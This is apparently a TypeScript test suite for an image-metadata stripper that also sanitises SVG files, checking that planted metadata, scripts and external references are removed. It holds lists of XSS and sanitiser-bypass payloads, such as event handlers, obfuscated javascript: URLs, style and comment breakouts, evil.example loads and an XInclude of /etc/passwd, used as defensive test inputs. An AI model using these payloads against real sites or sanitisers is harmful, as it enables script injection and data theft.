import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { detectMetadata } from '../../../src/detectors/metadata.ts';
import { walkImage } from '../../../src/media/walk-image.ts';
import { byteView } from '../../../src/media/walkers/byte-view.ts';
import { stripInMemory } from '../../../src/redactors/strip-in-place.ts';
import { exifBlock, jpegWith, orientedJpeg, picture } from '../../fixtures/images.ts';
import { CANARY } from '../../fixtures/planted/planted-place.ts';
import { svgPlaces } from '../../fixtures/planted/svg.ts';
import { BARE_SVG, SHAPE, svgWith } from '../../fixtures/svg.ts';

const TYPE = 'image/svg+xml';

function clean(svg: Uint8Array): string {
  return stripInMemory(byteView(svg), TYPE, { icc: true, exif: undefined }).toString();
}

/** What is left of something inside the root, beside the shape. */
function left(inside: string): string {
  const cleaned = clean(svgWith(inside));
  expect(clean(Buffer.from(cleaned))).toBe(cleaned);
  return cleaned
    .replace(/^<svg[^>]*>/, '')
    .replace(SHAPE, '')
    .replace(/<\/svg>$/, '');
}

function names(svg: Uint8Array): string[] {
  return walkImage(byteView(svg), TYPE)?.blocks.map(({ name }) => name) ?? [];
}

describe('every planted place in an SVG', () => {
  it.each(svgPlaces)('$place is there, is reported and goes', async ({ plant, isIn, reported }) => {
    const planted = await plant();
    const holds = isIn ?? ((bytes: Buffer) => bytes.includes(CANARY));
    expect(holds(planted)).toBe(true);
    const { detections } = await detectMetadata(byteView(planted), TYPE);
    expect(detections.map(({ type, ...place }) => ({ type, field: 'field' in place && place.field }))).toContainEqual(
      reported,
    );
    const cleaned = clean(planted);
    expect(holds(Buffer.from(cleaned))).toBe(false);
    expect(names(Buffer.from(cleaned))).toEqual([]);
    expect(clean(Buffer.from(cleaned))).toBe(cleaned);
  });
});

describe('an SVG is written anew', () => {
  it('with what draws, and nothing else', () => {
    expect(clean(svgWith('<title>A logo</title>\n  <!-- made by hand -->'))).toBe(BARE_SVG);
    const drawn =
      '<defs><linearGradient id="i1"><stop offset="0.5" stop-color="#f80"/></linearGradient></defs>' +
      '<g fill="url(#i1)" transform="rotate(45 50 50)"><text x="5" font-family="Open Sans, serif">a &lt; b &amp; c</text></g>';
    expect(left(drawn)).toBe(drawn);
  });

  it('with numbers for names, which keep their references', () => {
    expect(
      left(
        '<style>.anna-berger{fill:red}#Anna:hover{animation:anna 2s infinite}@keyframes anna{from{opacity:0}}</style>' +
          '<g id="Anna" class="anna-berger other"/><use xlink:href="#Anna"/>' +
          '<set attributeName="fill" to="red" begin="Anna.click+1s"/>',
      ),
    ).toBe(
      '<style>.c1{fill:red}#i1:hover{animation:k1 2s infinite}@keyframes k1{from{opacity:0}}</style>' +
        '<g id="i1" class="c1"/><use xlink:href="#i1"/><set attributeName="fill" to="red" begin="i1.click+1s"/>',
    );
  });

  it('under the default namespace, whatever prefix it came with', () => {
    const prefixed = '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect width="9"/><rect/></s:svg>';
    expect(clean(Buffer.from(prefixed))).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/></svg>');
  });

  it('in UTF-8, also from UTF-16', () => {
    const utf16 = Buffer.from(`\ufeff${svgWith('<text>ქართული</text>').toString()}`, 'utf16le');
    expect(clean(utf16)).toContain('<text>ქართული</text>');
  });

  it('with the pictures inside cleaned, upright and in colour as they were', async () => {
    const turned = jpegWith(await orientedJpeg(6), { comment: CANARY });
    const cleaned = clean(svgWith(`<image href="data:image/gif;base64,${turned.toString('base64')}"/>`));
    const [, payload = ''] = /data:image\/jpeg;base64,([^"]*)"/.exec(cleaned) ?? [];
    const inside = Buffer.from(payload, 'base64');
    expect(walkImage(byteView(inside), 'image/jpeg')?.blocks.map(({ name }) => name)).toEqual(['JPEG:EXIF']);
    const pixels = (jpeg: Buffer) => sharp(jpeg).autoOrient().raw().toBuffer();
    expect((await pixels(inside)).equals(await pixels(turned))).toBe(true);
    expect(clean(Buffer.from(cleaned))).toBe(cleaned);
  });

  it('not at all when a picture inside is broken', async () => {
    const jpeg = jpegWith(await picture().jpeg().toBuffer(), { exif: exifBlock({ artist: CANARY }) });
    const broken = svgWith(`<image href="data:;base64,${jpeg.subarray(0, -200).toString('base64')}"/>`);
    expect(() => clean(broken)).toThrow('the structure is broken');
  });
});

/** From the published lists of sanitiser bypasses: DOMPurify's and SVG-sanitizer's tests, the HTML5 security cheat sheet, mXSS papers. */
const HOSTILE: readonly (readonly [what: string, inside: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['a script by reference', '<script xlink:href="https://evil.example/x.js"/>'],
  ['a script as CDATA', '<script><![CDATA[alert(1)]]></script>'],
  ['an XHTML script', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ['a handler', '<handler type="text/ecmascript">alert(1)</handler>'],
  ['an iframe', '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>alert(1)&lt;/script>"/>'],
  ['an embed', '<embed xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'],
  ['foreignObject', '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'],
  ['a data document', '<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>'],
  ['a data page', '<image href="data:text/html,&lt;script>alert(1)&lt;/script>"/>'],
  ['a drawing in a drawing', '<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E"/>'],
  ['an external use', '<use href="https://evil.example/a.svg#x"/>'],
  ['an external picture', '<image href="//evil.example/a.svg#x" onload="x"/>'],
  ['XInclude', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'],
  ['a style that imports', '<style>@import "https://evil.example/x.css";</style>'],
  ['a style with an escape', '<style>.a{background:\\75rl(https://evil.example)}</style>'],
  ['a style that closes itself', '<style>&lt;/style>&lt;img src=x onerror=alert(1)></style>'],
  ['a style with a comment inside a word', '<style>.a{fill:u/**/rl(https://evil.example)}</style>'],
  ['a style as CDATA', '<style><![CDATA[</style><script>alert(1)</script>]]></style>'],
  ['a font from elsewhere', '<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>'],
  ['a selector that tells', '<style>[href^="a"]{fill:url(https://evil.example/a)}</style>'],
  ['an animated link', '<animate attributeName="href" to="javascript:alert(1)"/>'],
  ['an animated xlink', '<animate attributeName="xlink:href" values="javascript:alert(1)"/>'],
  ['a set event', '<set attributeName="onclick" to="alert(1)"/>'],
  ['a title that breaks out', '<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>'],
  ['a comment that breaks out', '<!-- -!><img src=x onerror=alert(1)> -->'],
];

/** Attributes of a shape that stays. */
const HOSTILE_ATTRIBUTES: readonly (readonly [what: string, attribute: string])[] = [
  ['an event', 'onload="alert(1)"'],
  ['an event in capitals', 'ONLOAD="alert(1)"'],
  ['an event under a prefix', 'xlink:onload="alert(1)"'],
  ['a foreign reference as paint', 'fill="url(https://evil.example/a.svg#x)"'],
  ['one in quotes', `fill="url('https://evil.example/a.svg#x')"`],
  ['one with white space', 'fill="url( &#10; https://evil.example/a.svg#x )"'],
  ['a fallback behind a local one', 'fill="url(#a) url(//evil.example)"'],
  ['a mask from elsewhere', 'mask="url(//evil.example/a.svg#m)"'],
  ['a filter from elsewhere', 'filter="url(data:image/svg+xml,x#f)"'],
  ['an escaped url', 'style="fill:\\75\\72\\6c(https://evil.example)"'],
  ['an expression', 'style="width:expression(alert(1))"'],
  ['a binding', 'style="-moz-binding:url(https://evil.example/x.xml#x)"'],
  ['a behaviour', 'style="behavior:url(#default#time2)"'],
  ['an image set', `style="background:image-set('https://evil.example' 1x)"`],
  ['a variable', 'style="--a:url(https://evil.example);fill:var(--a)"'],
  ['a source', `style="cursor:url(https://evil.example/x.cur),auto"`],
  ['a base', 'xml:base="https://evil.example/"'],
  ['a base of HTML', 'formaction="javascript:alert(1)"'],
];

describe('what runs or loads anything', () => {
  it.each(HOSTILE)('goes: %s', (_what, inside) => {
    expect(left(inside)).toBe('');
    expect(names(svgWith(inside)).length).toBeGreaterThan(0);
  });

  it.each(HOSTILE_ATTRIBUTES)('goes: %s on a shape', (_what, attribute) => {
    expect(left(`<rect width="9" ${attribute}/>`)).toBe('<rect width="9"/>');
    expect(names(svgWith(`<rect ${attribute}/>`)).length).toBeGreaterThan(0);
  });

  it.each([
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript:alert(1)',
    'javascript&#58;alert(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'vbscript:msgbox(1)',
    'blob:https://evil.example/1',
    'file:///etc/passwd',
    '//evil.example',
    'https://evil.example#a',
    'evil.svg#a',
  ])('goes as a link: %s', (href) => {
    for (const name of ['href', 'xlink:href'])
      expect(left(`<a ${name}="${href}"><rect width="9"/></a>`)).toBe('<a><rect width="9"/></a>');
  });

  it('goes under another prefix for XLink, and a default namespace that changes', () => {
    const rebound = '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:alert(1)"><rect width="9"/></a>';
    expect(left(rebound)).toBe('<a><rect width="9"/></a>');
    expect(left('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>')).toBe('');
    expect(left('<x:g xmlns:x="urn:x"><x:rect/></x:g>')).toBe('');
  });

  it('stays text where it is only text', () => {
    const text = '<text>&lt;script&gt;alert(1)&lt;/script&gt; ]]&gt; &lt;!--</text>';
    expect(left(text)).toBe(text);
    expect(left('<text><![CDATA[<script>alert(1)</script> ]]>]]<![CDATA[> <!--]]></text>')).toBe(text);
  });
});
